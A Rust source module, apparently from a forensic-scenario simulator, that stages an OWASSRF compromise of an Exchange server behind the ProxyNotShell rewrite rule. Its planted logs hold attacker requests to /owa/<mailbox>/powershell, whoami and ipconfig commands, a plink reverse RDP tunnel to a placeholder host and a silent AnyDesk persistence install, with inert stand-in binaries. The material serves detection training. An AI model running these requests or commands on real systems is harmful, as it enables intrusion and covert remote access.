//! OWASSRF (CVE-2022-41080, CVE-2022-41082): December 2022, on a server that has the URL rewrite rule against
//! ProxyNotShell and not its update.
//!
//! Spelling after CrowdStrike (2022-12-20).

use crate::campaigns::Story;
use crate::cast::{self, Known};
use crate::detour::{self, Detour};
use crate::plan::Plan;
use crate::scanners::Noise;
use crate::server::{Agent, Backend, Build, Protocol, Request};
use crate::setting::{Setting, Update};
use crate::shell;
use crate::sign_in::{self, Visitor};
use crate::time::{DAY, HOUR, MINUTE, SECOND, Time};
use crate::windows;

pub(super) const STORY: Story = Story {
    name: "owassrf",
    description: "OWASSRF on 6 December 2022 behind the mitigation for ProxyNotShell, remote-control tools, updated on 17 December",
    verdict: "compromised",
    campaign: Some("owassrf"),
    also: None,
    entry: "vulnerability",
    days: 24,
    bytes_per_day: 235_000,
    setting,
    tell,
};

const INTRUDER: &str = "203.0.113.140";
const AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.5112.102 Safari/537.36";
const POOL: &str = "MSExchangePowerShellAppPool";
const INERT: &[u8] = b"inert sample: no program\r\n";

/// The rule as the mitigation service of Exchange writes it for the whole site.
const REWRITE: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n  <system.webServer>\r\n    <rewrite>\r\n      \
    <rules>\r\n        <rule name=\"EEMS M1.1 PowerShell - inbound\" stopProcessing=\"true\">\r\n          \
    <match url=\".*\" />\r\n          <conditions>\r\n            \
    <add input=\"{UrlDecode:{REQUEST_URI}}\" pattern=\"(?=.*autodiscover)(?=.*powershell)\" />\r\n          \
    </conditions>\r\n          <action type=\"AbortRequest\" />\r\n        </rule>\r\n      </rules>\r\n    \
    </rewrite>\r\n  </system.webServer>\r\n</configuration>\r\n";

fn setting() -> Setting {
    let day = |day| Time::day(2022, 12, day);
    let builds = Build::of_2016((2_507, 13), (2_507, 16));
    let update = Update::Security(day(17).at(2, 30, 0));
    Setting::new((day(4), day(18), day(21)), builds, update, Noise::ProxyShell).installed(
        Time::day(2022, 6, 11).at(5, 1, 12),
        "CU23",
        "15.1.2507.6",
        "15.1.2375.28",
    )
}

fn tell(plan: &mut Plan) {
    plan.plant("C/inetpub/wwwroot/web.config", REWRITE.as_bytes().to_vec());
    other_mailboxes(plan);
    in_vain(plan, Time::day(2022, 12, 4).at(15, 9, 2));
    let at = Time::day(2022, 12, 5).at(22, 40, 51);
    let visitor = Visitor { person: victim(), client: INTRUDER, agent: AGENT.to_owned() };
    sign_in::signs_in(plan, at, &visitor);
    plan.tell(at, format!("{INTRUDER} signs in with the password of {}", visitor.person.user));
    let at = Time::day(2022, 12, 6).at(1, 12, 20);
    for wait in [0, 7, 15, 24] {
        detour::taken(plan, at.plus(wait * SECOND), behind_owa("@"));
    }
    detour::taken(plan, at.plus(40 * SECOND), behind_owa("%40"));
    plan.tell(at, format!("{INTRUDER} reaches remote PowerShell through /owa/<mailbox>/powershell"));
    shell::worker_runs(plan, at.plus(26 * SECOND), POOL, "\"cmd\" /c whoami");
    shell::worker_runs(plan, at.plus(44 * SECOND), POOL, "\"cmd\" /c ipconfig /all");
    remote_control(plan, at.plus(20 * MINUTE));
}

fn victim() -> Known {
    cast::known(2)
}

fn behind_owa(sign: &str) -> Detour {
    let person = victim();
    Detour {
        protocol: Protocol::Owa,
        method: "POST",
        stem: format!("/owa/{}/powershell", person.mail.replace('@', sign)),
        query: String::new(),
        behind: String::new(),
        client: INTRUDER,
        agent: AGENT,
        person,
        status: 200,
    }
}

/// Tools that tunnel and show the screen.
fn remote_control(plan: &mut Plan, at: Time) {
    const PLINK: &str = r"C:\Users\Public\Music\plink.exe";
    const ANYDESK: &str = r"C:\ProgramData\AnyDesk\AnyDesk.exe";
    for (wait, path) in [(0, PLINK), (3 * HOUR, ANYDESK)] {
        plan.step(at.plus(wait), move |server, at| windows::file_created(server, at, shell::WORKER, path));
        plan.tell(at.plus(wait), format!("{path} is dropped"));
    }
    shell::worker_runs(
        plan,
        at.plus(2 * MINUTE),
        POOL,
        "\"cmd\" /c C:\\Users\\Public\\Music\\plink.exe -N -R 7777:127.0.0.1:3389 -P 443 198.51.100.45 -l INERT -pw INERT",
    );
    shell::worker_runs(
        plan,
        at.plus(3 * HOUR + MINUTE),
        POOL,
        "\"cmd\" /c C:\\ProgramData\\AnyDesk\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent",
    );
    plan.step(at.plus(3 * HOUR + 2 * MINUTE), |server, at| {
        windows::service_installed(server, at, "AnyDesk Service", r#""C:\ProgramData\AnyDesk\AnyDesk.exe" --service"#)
    });
    plan.plant("C/Users/Public/Music/plink.exe", INERT.to_vec());
    plan.plant("C/ProgramData/AnyDesk/AnyDesk.exe", INERT.to_vec());
}

/// People who may open each other's mailboxes: an address in the path, and nothing behind it.
fn other_mailboxes(plan: &mut Plan) {
    for day in 0..8 {
        plan.step(Time::day(2022, 12, 4).at(10, 2 + day, 7).plus(day * DAY), |server, at| {
            let agent = Agent::new(&cast::browsers(2022)[0]);
            let person = cast::known(6);
            let request = Request {
                user: &person.account,
                client: "10.20.30.26",
                anchor: "SMTP~board@contoso.example",
                hint: "ExplicitLogon-SMTP",
                bytes: (0, 61_020),
                milliseconds: 130,
                backend: Some(Backend { stem: "/owa/board@contoso.example/", query: "", user: &person.account }),
                ..Request::new(Some(Protocol::Owa), "GET", "/owa/board@contoso.example/", &agent)
            };
            server.web(at, &request).map(|_| ())
        });
    }
}

/// A scanner that has no password.
fn in_vain(plan: &mut Plan, at: Time) {
    plan.step(at, |server, at| {
        let agent = Agent::new("Mozilla/5.0 zgrab/0.x");
        let request = Request {
            client: "203.0.113.17",
            status: 401,
            ..Request::new(Some(Protocol::Owa), "POST", "/owa/mastermailbox%40outlook.com/powershell", &agent)
        };
        server.web(at, &request).map(|_| ())
    });
}
